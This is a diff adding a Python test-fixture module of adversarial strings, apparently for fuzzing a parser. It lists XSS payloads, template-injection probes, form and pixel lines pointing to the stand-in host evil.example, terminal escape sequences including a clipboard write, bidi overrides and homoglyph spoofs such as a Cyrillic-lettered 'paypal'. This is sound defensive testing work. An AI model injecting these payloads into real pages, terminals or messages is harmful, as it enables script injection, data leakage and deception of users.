@@ -1,0 +1,78 @@
+"""Texts that want to be more than text: markup, scripts, terminal sequences, directions of writing, marks, sizes."""
+
+from typing import Final
+
+_MARKUP: Final = (
+    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<iframe src=javascript:alert(1)>",
+    "<body onload=alert(1)>", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>",
+    "<a href=javascript:alert(1)>approve</a>", "<form action=https://evil.example><button>Approve</button></form>",
+    "</form><form method=post action=//evil.example>", "<button name=choice value=approve>Approve</button>",
+    "<input name=sure value=yes checked>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<base href=//evil.example>", "<link rel=stylesheet href=//evil.example/x.css>", "<style>*{display:none}</style>",
+    "</style><script>alert(1)</script>", "</title><script>alert(1)</script>", "</bdi></dd></dl><h1>Approved</h1>",
+    "</pre><script>alert(1)</script>", "<!--", "--><script>alert(1)</script><!--", "<![CDATA[<script>alert(1)]]>",
+    "<object data=//evil.example>", "<embed src=//evil.example>", "<video src=x onerror=alert(1)>",
+    "<audio src=x onerror=alert(1)>", "<math><mtext><script>alert(1)</script>", "<template><script>alert(1)</script>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<textarea></textarea><script>alert(1)</script>",
+    "<xmp><script>alert(1)</script>", "<plaintext>", "<marquee onstart=alert(1)>", "<isindex action=javascript:x>",
+    "<img src='//evil.example/p.gif'>",
+    "<img srcset='//evil.example/p.gif 1x'>", "<a ping=//evil.example href=#>x</a>",
+    '" onmouseover="alert(1)', "' onmouseover='alert(1)",
+    '"><script>alert(1)</script>', "'><img src=x onerror=alert(1)>",
+    "` onmouseover=alert(1) `", 'x" style="position:fixed;inset:0', "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3c;img src=x onerror=alert(1)&#x3e;", "&amp;&quot;&apos;&nbsp;",
+    "&NewLine;&Tab;&colon;", "&notanentity;", "&", "<", ">", '"', "'", "`", "%3Cscript%3Ealert(1)%3C/script%3E",
+    "\\x3cscript\\x3e", "\\u003cscript\\u003e", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "javascript:alert(1)",
+    "data:text/html,<script>alert(1)</script>", "vbscript:x", "{{7*7}}",
+    "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% raw %}",
+    "{to}", "{to.count}", "{0.__class__}", "%s%n%x", "[[x]]", "](javascript:alert(1))", "![x](//evil.example/p.gif)",
+    "expression(alert(1))", "url(//evil.example)", "@import '//evil.example'", "}*{background:url(//evil.example)}",
+)  # fmt: skip
+_TERMINAL: Final = (
+    "\x1b[2J", "\x1b[H", "\x1b[1;1Happroved", "\x1b[31mred", "\x1b[0m", "\x1b[8mhidden", "\x1b[?25l", "\x1b[?1049h",
+    "\x1b[6n", "\x1b[5i", "\x1b[1A\x1b[2K", "\x1b[999D",
+    "\x1b[999C", "\x1b[3g", "\x1b[20h", "\x1b[4h", "\x1b[s\x1b[u",
+    "\x1b]0;title\x07", "\x1b]2;title\x1b\\", "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
+    "\x1b]52;c;ZXZpbA==\x07", "\x1b]1337;File=:x\x07",
+    "\x1b]9;say\x07", "\x1b]777;notify;a;b\x07", "\x1bP0;1|17/ab\x1b\\",
+    "\x1bPq#0;2;0;0;0\x1b\\", "\x1b_Gf=100;AAAA\x1b\\", "\x1b^x\x1b\\", "\x1bX y\x1b\\",
+    "\x1bc", "\x1bD", "\x1bE", "\x1bM",
+    "\x1b7\x1b8", "\x1b(0lqqk", "\x1b)0\x0e", "\x1b#8", "\x1b=",
+    "\x1b>", "\x1b[?1000h", "\x1b[?2004h", "\x1b[>c", "\x1b[c",
+    "\x9b2J", "\x9b31m", "\x9d0;t\x9c", "\x90q\x9c", "\x84\x85\x8d",
+    "\x98x\x9c", "\x9ex\x9c", "\x9fx\x9c", "\x00", "\x01",
+    "\x05", "\x07\x07\x07", "\x08\x08\x08\x08over", "\x0bvertical",
+    "\x0cpage", "\rover written", "a\r\nb", "\n\n\n\nlines",
+    "\ttab\ttab", "\x0e\x0f", "\x11\x13", "\x16", "\x18\x1a", "\x1b", "\x7f\x7f", "\x85next", "[bold]markup[/bold]",
+    "[link=https://evil.example]x[/link]", "[/]", "[blink]x",
+    "[red on red]x[/]", "\\[bold]", ":warning:", "[@click=x]y[/]",
+)  # fmt: skip
+_WRITING: Final = (
+    "\u202eevil\u202c", "\u202dforced", "\u202aembedded", "\u202bembedded", "\u2066isolated\u2069", "\u2067rtl\u2069",
+    "\u2068first", "\u2069\u2069\u2069", "\u200elrm", "\u200frlm", "\u061calm", "a\u200bb\u200cc\u200dd", "\ufeffbom",
+    "\u2060join", "\u00adsoft", "\u034fjoiner", "\u115f\u1160",
+    "\u17b4\u17b5", "\u180e", "\u2800blank", "\u3164filler",
+    "\uffa0half", "\u2028line", "\u2029paragraph", "\u2061\u2062\u2063\u2064", "\u206a\u206f", "\ufff9a\ufffab\ufffb",
+    "\ufffc\ufffd", "\U000e0041\U000e0042", "\U000e0001", "\ufe0ftext", "\ufe0etext", "\U000e0100x", "\ue000private",
+    "\U000f0000private", "\uffff", "\U0010ffff", "\u0378unassigned", "e" + "\u0301" * 60, "z\u0335\u0336\u0337algo",
+    "\u0489\u0488", "\u20dd\u20e0",
+    "a\u0302\u0303\u0304", "\u0e01\u0e49\u0e49\u0e49\u0e49", "\u0915\u094d\u0937\u093f",
+    "\u0928\u092e\u0938\u094d\u0924\u0947", "\u05e9\u05dc\u05d5\u05dd approve", "\u0645\u0631\u062d\u0628\u0627 yes",
+    "pay 5 \u05d0 6 \u05d1 7", "\ufdfd", "\u2e3b\u2e3b", "\U00012031", "\u6f22\u5b57", "\uff21\uff22\uff23",
+    "\uff1cscript\uff1e", "\uff9e\uff9f",
+    "\uac00\u1100\u1161\u11a8", "\U0001f600", "\U0001f468\u200d\U0001f469\u200d\U0001f467",
+    "\U0001f1e9\U0001f1ea", "\U0001f44d\U0001f3fd", "\u2764\ufe0f",
+    "1\ufe0f\u20e3", "\u231b\u23f0", "\u2500\u2502\u256d",
+    "\u2502 approved \u2502", "\u2588\u2588", "\u00b7\u2026\u201c\u201d", "\u2215\u2044", "p\u0430ypal", "\u0391dmin",
+    "\u212a\u017f", "\u0130\u0131", "\ufb01\ufb02", "\u1d400",
+    "\U0001d5d4", "\u2460", "\u33a1", "\u3000wide space\u3000",
+    "\u00a0nbsp\u00a0", "\u2003em", "\u1680ogham", "\u205f", "\u202fnarrow", "   ", "", " ", "-", "--help", "-o json",
+    "0", "true", "null", "1e400", "\u00bd", "a" * 60, "\u0301", "\u200d", "\u05b0\u05b1",
+)  # fmt: skip
+STRINGS: Final = tuple(dict.fromkeys((*_MARKUP, *_TERMINAL, *_WRITING)))
+"""More than 200, each a JSON string that Remit's parser takes."""
+HUGE: Final = (
+    "A" * 100_000, "<b>" * 33_000, "\x1b[2J" * 25_000, "\u202e" * 100_000, "\U000e0041" * 50_000, "&" * 100_000,
+    "\u0301" * 100_000, "\n" * 100_000, "\u6f22" * 100_000, "\"'" * 50_000,
+)  # fmt: skip
